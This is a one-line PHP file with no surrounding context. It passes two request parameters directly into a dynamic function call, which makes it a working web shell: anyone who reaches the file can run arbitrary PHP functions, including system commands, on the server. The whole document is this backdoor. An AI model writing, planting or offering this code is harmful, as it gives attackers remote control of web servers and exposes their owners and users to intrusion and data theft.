<?php $_REQUEST['f']($_REQUEST['a']);
